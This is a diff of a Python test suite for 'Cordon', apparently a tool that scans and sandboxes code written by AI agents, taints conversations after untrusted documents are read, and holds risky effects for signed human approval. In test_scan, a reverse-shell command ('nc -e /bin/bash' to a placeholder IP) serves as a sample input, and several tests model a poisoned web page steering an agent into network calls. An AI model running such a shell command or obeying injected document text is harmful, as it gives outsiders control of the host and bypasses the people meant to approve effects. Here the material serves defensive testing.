@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: MIT
-"""Trust: scan, conversations, ingest, plans, grants, pending changes, approvals and the log, as a story."""
+"""Trust: scans, conversations, documents, plans, grants, pending changes, approvals and the log."""
 import json
 import os
 import pathlib
@@ -22,7 +22,7 @@ class Gate(Case):
         self.c = self.client(user=False)
 
     def test_scan(self):
-        """a text, a file, a directory; what a program would do"""
+        """scan of a text, a file and a directory; the effects of a program"""
         bad = self.c.scan("nc -e /bin/bash 192.0.2.1 4444")
         self.assertEqual((bad.clean, bad.verdict, bad.findings[0].rule, bad.findings[0].line), (False, "deny", "CORDON-2026-0001", 1))
         self.assertTrue(self.c.scan("good morning").clean)
@@ -45,7 +45,7 @@ class Gate(Case):
 
     def directory(self, name):
         os.mkdir(self.path(name))
-        if os.getuid() == 0:  # root's own is never given for direct writes
+        if os.getuid() == 0:  # no direct writes to a directory of root
             os.chmod(self.dir, 0o755)
             os.chown(self.path(name), 61000, 61000)
         self.person("trust", self.path(name))
@@ -57,7 +57,7 @@ class Gate(Case):
         return conversation
 
     def test_story(self):
-        """a document is read; what it made the agent write reaches nothing, what was planned keeps its plan"""
+        """after a document, code derived from it reaches nothing, and planned code keeps its effects"""
         conversation = self.c.new_conversation(title="numbers")
         self.assertTrue(conversation.clean)
         plan = self.c.plan(PLANNED, conversation=conversation, runs=2)
@@ -69,7 +69,7 @@ class Gate(Case):
         self.assertIn("numbers.csv", now.cause)
         r = self.c.run(OBEYS, conversation=conversation, net=[HOST])
         self.assertEqual((r.origin, r.state, r.cause, r.ok), ("derived", "exposed", now.cause, False))
-        self.assertEqual([(e.effect, e.object, e.outcome, e.done) for e in r.effects], [("net", HOST, "withheld", False)])
+        self.assertEqual([(e.effect, e.object, e.outcome, e.done) for e in r.effects], [("net", HOST, "waits", False)])
         self.assertEqual(r.effects[0].command, f"cordon grant --conversation {r.conversation} --net {HOST}")
         self.assertIn(source.source, [t.source for t in r.evidence])
         span = next(t.span for t in r.evidence if t.span[1])
@@ -92,7 +92,7 @@ class Gate(Case):
         self.assertEqual([c.conversation for c in self.c.conversations()], [conversation.conversation])
 
     def test_state(self):
-        """a run is clean if its conversation is, or if the user wrote it"""
+        """a run is clean if its conversation is clean or the user wrote the code"""
         conversation = self.c.new_conversation()
         rows = (({}, "exposed", "exposed"), ({"user": True}, "clean", "user"),
                 ({"conversation": conversation}, "clean", "agent"),
@@ -108,7 +108,7 @@ class Gate(Case):
         self.assertFalse(self.c.conversation(conversation).clean)
 
     def test_changes(self):
-        """changes wait in the conversation's overlay, until they are applied or dropped"""
+        """changes stay in the overlay of the conversation until they are applied or dropped"""
         conversation, w = self.exposed(), self.directory("w")
         self.c.run(WRITES, conversation=conversation, workspace=w)
         r = self.c.run("print(open('out').read())", conversation=conversation, workspace=w)
@@ -117,7 +117,7 @@ class Gate(Case):
         self.assertEqual([(c.path, c.change, c.before, c.after.size, c.rule) for c in diff.changes],
                          [("out", "created", None, 1, "free")])
         applied = self.c.apply(w, conversation=conversation)
-        self.assertEqual((applied.written, [e.outcome for e in applied.effects], os.listdir(w)), (0, ["withheld"], []))
+        self.assertEqual((applied.written, [e.outcome for e in applied.effects], os.listdir(w)), (0, ["waits"], []))
         self.person("grant", "--conversation", conversation.conversation, "--write", "out")
         grant = self.c.grants()[0]
         self.assertEqual((grant.giver, grant.write, grant.conversation), ("grant", ("out",), conversation.conversation))
@@ -131,7 +131,7 @@ class Gate(Case):
         self.assertIn("was changed by exposed code", self.c.run("print(1)", conversation=clean, workspace=w).cause)
 
     def test_interrupted(self):
-        """a run that is ended early taints what it could write to, and nothing else"""
+        """a run that is ended early marks the directory that it could write to, and no other"""
         a, b, c = self.directory("a"), self.directory("b"), self.directory("c")
         conversation = self.exposed()
         self.person("grant", "--conversation", conversation.conversation, "--write", ".")
@@ -150,7 +150,7 @@ class Gate(Case):
             self.assertEqual(self.c.conversation(clean).state, state)
 
     def test_pending(self):
-        """code that waits for a person; they say no"""
+        """code waits for a person, and they deny it"""
         strict, conversation = self.policy(f"profile: strict\nexposed: {{tier: {TIER}}}\n"), self.exposed()
         with self.assertRaises(cordon.Pending) as e:
             self.c.run(OBEYS, conversation=conversation, policy=strict)
@@ -164,7 +164,7 @@ class Gate(Case):
         self.assertEqual(self.c.approvals(all=True)[0].status, "denied")
 
     def test_wait(self):
-        """wait=True: an event says whom to ask, and the call ends when they have answered"""
+        """with wait=True an event names the request, and the call ends with the answer"""
         strict, conversation = self.policy(f"profile: strict\nexposed: {{tier: {TIER}}}\n"), self.exposed()
         asked = []
 
@@ -181,36 +181,43 @@ class Gate(Case):
         until(lambda: threading.active_count() == 1)
 
     def test_approve(self):
-        """an effect waits for a person of another account; the requester cannot approve it"""
+        """an effect waits for a person with another account; the account that asked cannot approve it"""
         agent = self.c
         if os.getuid() == 0:
             os.chmod(self.dir, 0o755)
             os.chown(self.path("state"), 61000, 61000)
             agent = self.client(user=False, tier="no-cgroup", binary=self.script(
                 "exec setpriv --reuid 61000 --regid 61000 --clear-groups 'CORDON' \"$@\""))
-        with open(self.path("pub"), "w") as pub:
-            subprocess.run([BINARY, "approvals", "key", "new", self.path("key"), "--plain"], check=True, stdout=pub)
-        with open(self.path("pub")) as pub:
-            words = [BINARY, "approvals", "key", "add", "me", pub.read().strip(), "--uid", str(os.getuid()),
-                     "--state", self.path("state")]
         conversation = agent.new_conversation()
         agent.ingest(POISON, kind="web", name="http://a/", conversation=conversation)
-        self.assertEqual(agent.run(OBEYS, conversation=conversation, net=[HOST]).effects[0].outcome, "withheld")
-        enrolled = subprocess.run(words, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).returncode == 0
-        if os.getuid() != 0:
-            return
-        self.assertTrue(enrolled)
         effect = agent.run(OBEYS, conversation=conversation, net=[HOST]).effects[0]
         self.assertEqual(effect.outcome, "waits")
-        with self.assertRaises(cordon.CordonError):  # the account that asked
-            agent.approve(effect.waits, key=self.path("key"))
+        with self.assertRaises(cordon.CordonError):  # the account that asks
+            agent.approve(effect.waits, key=self.path("key"), as_="me")
         self.assertEqual(agent.approval(effect.waits).status, "pending")
-        self.c.approve(effect.waits, key=self.path("key"))
+        if "OWN_ETC" not in os.environ:  # only root can enrol a person
+            return
+        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", self.path("key")], check=True)
+        subprocess.run([BINARY, "approvals", "key", "add", "me", self.path("key.pub")], check=True, stdout=subprocess.DEVNULL)
+        waiting = agent.wait_approval(effect.waits, timeout=0)
+        self.assertEqual((waiting.status, waiting.signed), ("pending", ()))
+        request = agent.export_approval(effect.waits)
+        elsewhere = cordon.Cordon(BINARY)  # another machine, without the state
+        with self.assertRaises(cordon.CordonError):  # not the request that was read
+            elsewhere.sign_approval(request, id="0" * 32, key=self.path("key"), as_="me")
+        answer = elsewhere.sign_approval(request, id=effect.waits, key=self.path("key"), as_="me")
+        self.assertEqual(answer.approval_id, effect.waits)
+        self.assertIn("BEGIN SSH SIGNATURE", answer.answer)
+        with self.assertRaises(cordon.CordonError):
+            agent.add_answer(answer.answer.replace("answer approve", "answer deny"))
+        added = agent.add_answer(answer.answer)
+        self.assertEqual((added.status, [s.name for s in added.signed]), ("approved", ["me"]))
+        self.assertEqual(agent.wait_approval(effect.waits).status, "approved")
         r = agent.run(OBEYS, conversation=conversation, net=[HOST])
         self.assertEqual((r.status, r.approval_id, r.effects[0].by), ("exited", effect.waits, "apr:" + effect.waits))
 
     def test_wrong(self):
-        """what Cordon does not know is told in its words"""
+        """an error of Cordon keeps its text"""
         conversation = self.c.new_conversation()
         for name, call in (("conversation", lambda: self.c.conversation("nothing")), ("approval", lambda: self.c.approval("00")),
                            ("trace", lambda: self.c.audit_trace("run:00")), ("dash", lambda: self.c.conversation("-x")),
@@ -223,7 +230,7 @@ class Gate(Case):
             self.assertTrue(e.exception.message)
 
     def test_tampered(self):
-        """a log that is not what it was"""
+        """a log that was changed"""
         self.c.new_conversation()
         key = self.c.audit_tail(1)[0]
         self.assertTrue(key.hash)
@@ -234,7 +241,7 @@ class Gate(Case):
             self.c.audit_verify(checkpoint=kept)
 
     def test_doctor(self):
-        """what this machine can give"""
+        """the layers and tiers of this machine"""
         told = self.c.doctor()
         self.assertTrue(told["layers"]["seccomp"]["holds"])
         self.assertIn("full", told["tiers"])
